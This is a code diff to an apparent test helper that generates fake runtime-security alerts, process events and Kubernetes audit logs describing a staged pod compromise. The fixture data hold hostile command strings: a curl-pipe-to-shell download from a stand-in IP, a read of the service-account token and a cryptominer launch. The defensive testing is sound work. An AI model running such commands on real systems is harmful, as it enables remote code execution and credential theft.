@@ -8,14 +8,14 @@ const IMAGE = "registry.example/checkout";
 const CONTAINER = "3ad7b26ded6db7b0b4b1a5a0ff0cbc8a1c2a9a0c7f9e8d7c6b5a493827161504";
 const ACCOUNT = "system:serviceaccount:store:checkout";
 
-/** What happens, by seconds after its beginning. Each run is another pod, so that it begins an incident of its own. */
+/** What happens, by tenths of seconds after its beginning. Each run is another pod, so that it begins an incident of its own. */
 function story(begin, pod) {
-  const at = (seconds) => new Date(begin + seconds * 1000).toISOString();
-  // The container is the pod's: a digest of its name would be as good, but the sensors cut it in different places.
-  const container = pod.slice(-12) + CONTAINER.slice(12);
-  const alert = (seconds, rule, priority, tags, fields) => ({
+  const at = (tenths) => new Date(begin + tenths * 100).toISOString();
+  // Each pod has a container of its own.
+  const container = Buffer.from(pod.slice(-6)).toString("hex") + CONTAINER.slice(12);
+  const alert = (tenths, rule, priority, tags, fields) => ({
     hostname: "node-1",
-    time: at(seconds),
+    time: at(tenths),
     rule,
     priority,
     source: "syscall",
@@ -26,7 +26,7 @@ function story(begin, pod) {
       "container.image.repository": IMAGE,
       "container.image.tag": "latest",
       "container.name": "app",
-      "evt.time": (begin + seconds * 1000) * 1_000_000,
+      "evt.time": (begin + tenths * 100) * 1_000_000,
       "k8s.ns.name": "store",
       "k8s.pod.name": pod,
       "k8s.pod.uid": `uid-${pod}`,
@@ -35,7 +35,7 @@ function story(begin, pod) {
       ...fields,
     },
   });
-  const process = (pid, parent, seconds, binary, args) => ({
+  const process = (pid, parent, tenths, binary, args) => ({
     exec_id: `${pod}:${pid}`,
     pid,
     uid: 0,
@@ -43,7 +43,7 @@ function story(begin, pod) {
     binary,
     arguments: args,
     flags: "execve clone",
-    start_time: at(seconds),
+    start_time: at(tenths),
     auid: 4294967295,
     pod: {
       namespace: "store",
@@ -57,21 +57,21 @@ function story(begin, pod) {
     parent_exec_id: parent ? `${pod}:${parent}` : "",
     tid: pid,
   });
-  const node = process(12, 0, -3600, "/usr/local/bin/node", "server.js");
+  const node = process(12, 0, -36_000, "/usr/local/bin/node", "server.js");
   const shell = process(4242, 12, 0, "/bin/sh", '-c "curl -s http://198.51.100.9/x | sh"');
   const curl = process(4243, 4242, 1, "/usr/bin/curl", "-s http://198.51.100.9/x");
   const look = process(4250, 4242, 20, "/bin/cat", "/var/run/secrets/kubernetes.io/serviceaccount/token");
   const miner = process(4260, 4242, 40, "/tmp/.x/kworker", "-o stratum+tcp://pool.example.net:3333 -u 44AFFq5kSiGBoZ");
-  const begun = (of, parent, seconds) => ({
+  const begun = (of, parent, tenths) => ({
     process_exec: { process: of, parent },
     node_name: "node-1",
-    time: at(seconds),
+    time: at(tenths),
   });
-  const call = (seconds, verb, resource, name, rest) => ({
+  const call = (tenths, verb, resource, name, rest) => ({
     kind: "Event",
     apiVersion: "audit.k8s.io/v1",
     level: "Metadata",
-    auditID: `${pod}-${seconds}`,
+    auditID: `${pod}-${tenths}`,
     stage: "ResponseComplete",
     requestURI: `/api/v1/namespaces/store/${resource}/${name}`,
     verb,
@@ -84,8 +84,8 @@ function story(begin, pod) {
     userAgent: "curl/8.9",
     objectRef: { resource, namespace: "store", name, apiVersion: "v1" },
     responseStatus: { metadata: {}, code: 200 },
-    requestReceivedTimestamp: at(seconds),
-    stageTimestamp: at(seconds),
+    requestReceivedTimestamp: at(tenths),
+    stageTimestamp: at(tenths),
     annotations: { "authorization.k8s.io/decision": "allow", "authorization.k8s.io/reason": "" },
     ...rest,
   });
@@ -150,7 +150,7 @@ function story(begin, pod) {
     "kubernetes-audit": [
       call(30, "get", "secrets", "database"),
       call(35, "list", "secrets", "", { responseStatus: { metadata: {}, code: 403, reason: "Forbidden" } }),
-      call(50, "create", "pods", "checkout-7d9-x/exec", {
+      call(50, "create", "pods", `${pod}/exec`, {
         requestURI: `/api/v1/namespaces/store/pods/${pod}/exec?command=id&container=app&stdout=true`,
         user: { username: "mallory@example.org", groups: ["developers", "system:authenticated"] },
         sourceIPs: ["203.0.113.7"],
@@ -168,7 +168,7 @@ export async function attack({ origin, token: operator, browser }) {
   const sending = await browser.newContext({ baseURL: origin });
   const mark = Date.now().toString(36);
   const pod = `checkout-7d9-${mark.slice(-5)}`;
-  const events = story(Date.now() - 120_000, pod);
+  const events = story(Date.now() - 6000, pod);
   for (const [format, told] of Object.entries(events)) {
     const name = `${format}-${mark}`;
     const made = await sending.request.post("/api/v1/runtime/sources", {
